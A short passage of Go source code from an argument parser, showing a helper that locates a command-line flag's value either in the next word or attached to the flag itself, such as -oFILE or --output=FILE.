	return func(i int) (string, bool) { return args[i].val, args[i].dyn }
}

// valueWord is the word holding u's value: the next word, or the value
// attached to the flag's own word (-oFILE, --output=FILE).
func valueWord(args []word, u argv.Use) (word, bool) {
	switch {
	case u.ValAt < 0:
		return word{}, false
	case u.ValAt == u.At:
		return word{val: u.Value, dyn: args[u.At].dyn}, true
	}
	return args[u.ValAt], true
}
